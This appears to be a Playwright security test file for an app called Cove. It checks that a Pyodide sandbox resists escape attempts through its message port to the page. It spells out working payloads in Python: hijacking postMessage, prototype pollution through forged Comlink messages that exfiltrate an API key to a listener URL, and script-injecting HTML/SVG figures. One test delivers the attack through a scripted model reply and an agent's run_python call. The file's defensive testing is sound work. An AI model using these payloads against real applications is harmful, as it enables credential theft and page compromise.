import { startLoopbackListener } from '../fixtures/loopback-listener.mjs';
import type { FakeOpenAIServer } from '../fixtures/fake-openai-server.mjs';
import { AgentPanel } from './support/agent-panel';
import type { CovePage } from './support/cove-page';
import { expect, test } from './support/fixtures';

// Escapes through the sandbox's channel to the page. The sandbox itself holds (sandbox.spec.ts);
// these attacks go through the one thing it can talk to: the port on which the page answers
// the worker. A script captures that port by wrapping MessagePort.prototype.postMessage
// inside the worker, then sends what the page must never act on. Each test keeps a key to
// steal and a listener on 127.0.0.1, and checks afterwards that nothing reached the listener
// and nothing of the page's intrinsics changed.

const FIRST_RUN = { timeout: 90_000 };
const SECRET = 'sk-cove-escape-test-41c7e2';

test.describe.configure({ timeout: 240_000 });

/** Saves the fake provider with SECRET as its key. */
async function saveKey(cove: CovePage, provider: FakeOpenAIServer): Promise<void> {
  provider.configure({ models: [{ id: 'chat-model', object: 'model', owned_by: 'fake' }] });
  await cove.openSettings();
  await cove.addProvider({ name: 'Fake', baseURL: provider.baseURL, apiKey: SECRET });
  await cove.page.getByRole('button', { name: 'Close settings' }).click();
}

/**
 * Python that captures every port the worker posts on (its output, then a package request,
 * which travels to the page), and defines `send(message, transfer)` to post on all of them.
 */
const CAPTURE = `
import js, pyodide_js
from pyodide.ffi import create_proxy, to_js

print("capturing the ports")
ports = []
_original = js.MessagePort.prototype.postMessage
def _spy(this, *args):
    if not any(getattr(js.Object, "is")(this, port) for port in ports):
        ports.append(this)
    return js.Reflect.apply(_original, this, to_js(list(args)))
# Installed only while Python awaits (a call into Python while it prints would fail): the
# package request goes from the worker to the page meanwhile.
js.MessagePort.prototype.postMessage = create_proxy(_spy, capture_this=True)
try:
    await pyodide_js.loadPackage("micropip")
except Exception as error:
    pass
js.MessagePort.prototype.postMessage = _original

def obj(value, to_js=to_js, js=js):
    return to_js(value, dict_converter=js.Object.fromEntries)

print("ports captured:", len(ports), flush=True)
`;

/**
 * The attack as reported: plant a setter for `apiKey` on the page's Object.prototype
 * through the page's object protocol (Comlink's APPLY of a property path), whose callback
 * (left alive in the worker) then sets `lockFileUrl` on Object.prototype to the listener
 * with the key in its query, for the page to fetch when Python next starts.
 */
function keyTheft(listenerUrl: string): string {
  return `${CAPTURE}
LISTENER = ${JSON.stringify(listenerUrl)}
def plant(port):
    channel = js.MessageChannel.new()
    # Default arguments: the run's globals are cleared when it ends; the callback lives on.
    def on_key(event, ports=ports, obj=obj, LISTENER=LISTENER, str=str):
        try:
            key = event.data.argumentList[0].value
        except Exception:
            return
        if not isinstance(key, str) or not key:
            return
        for target in ports:
            target.postMessage(obj({"id": "s", "type": "SET", "path": ["__proto__", "lockFileUrl"],
                "value": {"type": "RAW", "value": LISTENER + "stolen?apiKey=" + key}}))
    channel.port1.onmessage = create_proxy(on_key)
    port.postMessage(obj({"id": "p", "type": "APPLY", "path": ["__proto__", "__defineSetter__"],
        "argumentList": [{"type": "RAW", "value": "apiKey"},
                         {"type": "HANDLER", "name": "proxy", "value": channel.port2}]}),
        to_js([channel.port2]))
for port in list(ports):
    try:
        plant(port)
    except Exception as error:
        print("plant failed:", error)
print("planted")
`;
}

/**
 * Every kind of message the page must refuse, sent on every captured port: forged calls of
 * the object protocol, each type of the closed list with prototype keys at every depth,
 * wrong fields, oversized fields, non-plain values, transferred ports and buffers, an HTML
 * "figure", a flood; and package requests for the listener (well-formed: the page's policy,
 * not the protocol, refuses those).
 */
function hostileMessages(listenerUrl: string): string {
  return `${CAPTURE}
LISTENER = ${JSON.stringify(listenerUrl)}
def parsed(text):
    return js.JSON.parse(text)
messages = [
    obj({"type": "fetch-package", "id": 900001, "url": LISTENER + "package.whl"}),
    obj({"type": "fetch-package", "id": 900002, "url": LISTENER + "?key=x"}),
    obj({"id": "g", "type": "GET", "path": ["__proto__", "constructor", "keys"]}),
    obj({"id": "a", "type": "APPLY", "path": ["__proto__", "__defineSetter__"], "argumentList": []}),
    obj({"id": "s", "type": "SET", "path": ["__proto__", "lockFileUrl"], "value": {"type": "RAW", "value": LISTENER}}),
    parsed('{"type":"event","__proto__":{"apiKey":"x"}}'),
    parsed('{"type":"event","event":{"runId":"r","seq":1,"type":"output","chunks":[{"stream":"stdout","text":"x","__proto__":{"lockFileUrl":"${listenerUrl}"}}]}}'),
    parsed('{"type":"reply","id":1,"answer":{"constructor":{"prototype":{"polluted":true}}}}'),
    obj({"type": "failure", "id": "1", "message": 5}),
    obj({"type": "event", "event": {"runId": "r", "seq": 1, "type": "figure", "mimeType": "text/html",
         "bytes": js.TextEncoder.new().encode("<script>parent.stolen=1</script>")}}),
    obj({"type": "event", "event": {"runId": "r", "seq": 1, "type": "figure", "mimeType": "image/png",
         "bytes": js.TextEncoder.new().encode("<svg onload=alert(1)>")}}),
    obj({"type": "fetch-package", "id": 3, "url": "x" * 5_000_000}),
    obj({"type": "fetch-package", "id": 4, "url": js.Map.new()}),
]
for port in ports:
    for message in messages:
        try:
            port.postMessage(message)
        except Exception as error:
            print("not sent:", type(error).__name__)
    try:
        spare = js.MessageChannel.new()
        port.postMessage(obj({"type": "event", "event": {"runId": "r", "seq": 2, "type": "started", "startedAt": 1}}),
                         to_js([spare.port1]))
        buffer = js.ArrayBuffer.new(8)
        port.postMessage(obj({"type": "reply", "id": 1, "answer": buffer}), to_js([buffer]))
    except Exception as error:
        print("not sent:", type(error).__name__)
    flood = obj({"type": "event", "event": {"runId": "r", "seq": 3, "type": "started", "startedAt": 1}})
    for _ in range(20_000):
        port.postMessage(flood)
# A callback that outlives this run and keeps sending.
def again(*args):
    for port in ports:
        try:
            port.postMessage(messages[2])
        except Exception:
            pass
js.setInterval(create_proxy(again), 50)
print("all messages sent")
`;
}

/** The page's intrinsics, as a string that changes if anything was planted on them. */
function pageIntrinsics(cove: CovePage): Promise<string> {
  return cove.page.evaluate(() => {
    const targets: [string, object][] = [
      ['Object.prototype', Object.prototype],
      ['Function.prototype', Function.prototype],
      ['Array.prototype', Array.prototype],
      ['String.prototype', String.prototype],
      ['Promise.prototype', Promise.prototype],
      ['Error.prototype', Error.prototype],
    ];
    return JSON.stringify(
      targets.map(([name, target]) => [
        name,
        Object.isFrozen(target),
        Reflect.ownKeys(target)
          .map((key) => {
            const descriptor = Object.getOwnPropertyDescriptor(target, key)!;
            return `${String(key)}:${'value' in descriptor ? typeof descriptor.value : 'accessor'}`;
          })
          .sort(),
      ]),
    );
  });
}

async function runFile(cove: CovePage, name: string, code: string): Promise<void> {
  await cove.uploadFile(name, code);
  await cove.item(name).click();
  await cove.runButton(name).click();
}

// Invariant 16: code Cove runs cannot reach keys, storage or other hosts.
test('the reported key theft (plant through the port, trigger from Settings, restart) gets nothing out', async ({
  cove,
  provider,
}) => {
  const listener = await startLoopbackListener();
  try {
    await saveKey(cove, provider);
    const before = await pageIntrinsics(cove);

    await runFile(cove, 'plant.py', keyTheft(listener.url));
    await expect(cove.output).toContainText('ports captured', FIRST_RUN);
    await expect(cove.runStatus).toHaveText(/^(Finished|Cove stopped Python)/, FIRST_RUN);
    const attackEnd = await cove.runStatus.textContent();

    // What the person does next, as in the report: change the temperature, export the
    // configuration, then Python restarts (twice, so that a worker booted after the
    // attack is the one in use).
    await cove.openSettings();
    await cove.settings.getByLabel('Temperature').fill('0.5');
    await cove.settings.getByLabel('Temperature').press('Tab');
    const download = cove.page.waitForEvent('download');
    await cove.settings.getByRole('button', { name: 'Export configuration' }).click();
    await download;
    await cove.page.getByRole('button', { name: 'Close settings' }).click();
    await cove.page.getByRole('button', { name: 'Restart Python' }).click();
    await runFile(cove, 'loop.py', 'print("looping")\nwhile True:\n    pass\n');
    await expect(cove.output).toContainText('looping', FIRST_RUN);
    await cove.page.getByRole('button', { name: 'Stop' }).click();
    await runFile(cove, 'after.py', 'print("still fine")');
    await expect(cove.output).toContainText('still fine', FIRST_RUN);

    // Every worker booted since has fetched what it needed: the key went nowhere.
    expect(listener.hits).toEqual([]);
    // Cove refused the first forged message and stopped that interpreter.
    expect(attackEnd).toContain(
      'Cove stopped Python: its sandbox sent a message Cove does not accept',
    );
    expect(await pageIntrinsics(cove)).toBe(before);
    expect(
      await cove.page.evaluate(() => [
        Object.getOwnPropertyDescriptor(Object.prototype, 'apiKey'),
        ({} as { lockFileUrl?: string }).lockFileUrl,
      ]),
    ).toEqual([undefined, undefined]);
    // The provider still works with its key.
    await cove.openSettings();
    const card = cove.providerCard('Fake');
    const tested = provider.requests.length;
    await card.getByRole('button', { name: 'Test connection' }).click();
    await expect(card.getByRole('status')).toHaveText(/^Connected: /);
    expect(
      provider.requests.slice(tested).some((r) => r.headers.authorization === `Bearer ${SECRET}`),
    ).toBe(true);
  } finally {
    await listener.close();
  }
});

for (const network of ['Off', 'Package index only', 'Any host'] as const) {
  test(`network "${network}": forged, malformed, oversized and flooding messages on a captured port change nothing`, async ({
    cove,
    provider,
  }) => {
    const listener = await startLoopbackListener();
    try {
      await saveKey(cove, provider);
      if (network !== 'Package index only') {
        await cove.openSettings();
        await cove.settings.getByRole('radio', { name: new RegExp(`^${network}`) }).check();
        await cove.settings.getByRole('button', { name: 'Save Python settings' }).click();
        await expect(cove.notices).toContainText('Python settings saved.');
        await cove.page.getByRole('button', { name: 'Close settings' }).click();
      }
      const before = await pageIntrinsics(cove);
      await runFile(cove, 'hostile.py', hostileMessages(listener.url));
      await expect(cove.runStatus).toContainText(
        'Cove stopped Python: its sandbox sent a message Cove does not accept',
        FIRST_RUN,
      );
      // The log says what was refused.
      await cove.page.getByRole('button', { name: 'Logs', exact: true }).click();
      await expect(cove.page.getByRole('dialog', { name: 'Logs' })).toContainText(
        'Cove refused a message from the Python sandbox',
      );
      await cove.page.keyboard.press('Escape');

      // A fresh interpreter runs the next program; the old one's timer is gone with it.
      await runFile(cove, 'after.py', 'print("still fine")');
      await expect(cove.output).toContainText('still fine', FIRST_RUN);
      expect(listener.hits).toEqual([]);
      expect(await pageIntrinsics(cove)).toBe(before);
      expect(await cove.page.evaluate(() => (window as { stolen?: unknown }).stolen)).toBe(
        undefined,
      );
    } finally {
      await listener.close();
    }
  });
}

// Invariant 16: code Cove runs cannot reach keys, storage or other hosts.
test('the same attack through a reply’s code block and the agent’s run_python in Full auto', async ({
  cove,
  provider,
}) => {
  const listener = await startLoopbackListener();
  try {
    await saveKey(cove, provider);
    const before = await pageIntrinsics(cove);
    const attack = keyTheft(listener.url);
    provider.script({ content: ['Try this:', '', '```python', attack.trim(), '```'].join('\n') });
    const agent = new AgentPanel(cove);
    await agent.chat.messageBox.fill('How do I check my setup?');
    await agent.chat.messageBox.press('Enter');
    const reply = cove.page.getByRole('article', { name: 'Assistant reply' }).last();
    await reply.getByRole('button', { name: 'Run this Python code' }).click();
    await expect(reply.getByRole('log', { name: 'Output of this code' })).toContainText(
      'ports captured',
      FIRST_RUN,
    );
    await expect(reply).toContainText('Cove stopped Python', FIRST_RUN);
    await agent.idle();

    await cove.page.getByRole('button', { name: 'New conversation' }).click();
    await agent.switchToAgent();
    await agent.policy.selectOption('auto');
    provider.script(
      { toolCalls: [{ id: 'call_attack', name: 'run_python', arguments: { code: attack } }] },
      { content: 'Done.' },
    );
    await agent.send('Check the setup');
    await agent.idle();
    const chip = agent.chip('run_python');
    await expect(chip).toHaveAccessibleName(/^run_python, .*, failed/, FIRST_RUN);
    const details = await agent.expand(chip);
    await expect(details).toContainText('Cove stopped Python');
    expect(listener.hits).toEqual([]);
    expect(await pageIntrinsics(cove)).toBe(before);
    // What the model was sent: the refusal as the call's result, and never the key (which
    // goes only in the Authorization header).
    const bodies = JSON.stringify(provider.chatRequests().map((request) => request.body));
    expect(bodies).toContain(
      'Cove stopped Python: its sandbox sent a message Cove does not accept',
    );
    expect(bodies).not.toContain(SECRET);
  } finally {
    await listener.close();
  }
});

// Invariant 9: rendering untrusted text runs no script and loads nothing.
test('a figure is shown only as the raster image its bytes are, from a data: URL', async ({
  cove,
}) => {
  // The sandbox hands figures to the page through the run's host. A program can call it
  // with any bytes: a PNG header in front of HTML shows as a (broken) image, never as a
  // page; HTML or SVG claiming to be a PNG is refused and that interpreter stopped.
  const figure = (body: string) => `
import _cove_runner
from pyodide.ffi import to_js
_cove_runner._run.host.figure(to_js(${body}))
print("figure sent")
`;
  await runFile(
    cove,
    'disguised.py',
    figure(String.raw`b"\x89PNG\r\n\x1a\n<html><script>parent.stolen = 1</script></html>"`),
  );
  await expect(cove.runStatus).toHaveText(/^Finished in/, FIRST_RUN);
  const image = cove.page.getByRole('img', { name: 'Figure 1' });
  await expect(image).toHaveAttribute('src', /^data:image\/png;base64,/);

  for (const [name, body] of [
    ['html.py', 'b"<!doctype html><script>parent.stolen = 1</script>"'],
    ['svg.py', String.raw`b"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.stolen=1'/>"`],
  ] as const) {
    await runFile(cove, name, figure(body));
    await expect(cove.runStatus).toContainText(
      'Cove stopped Python: its sandbox sent a message Cove does not accept',
      FIRST_RUN,
    );
    await expect(cove.runStatus).toContainText('not the raster image its type claims');
  }
  // No page of Cove's origin was made of the bytes: no blob: URL, no frame, nothing ran.
  expect(
    await cove.page.evaluate(() => ({
      blobs: [...document.querySelectorAll('[src^="blob:"], [href^="blob:"]')].length,
      frames: [...document.querySelectorAll('iframe, object, embed')].filter(
        (element) => element.getAttribute('title') !== 'Python sandbox',
      ).length,
      stolen: (window as { stolen?: unknown }).stolen,
    })),
  ).toEqual({ blobs: 0, frames: 0, stolen: undefined });
});
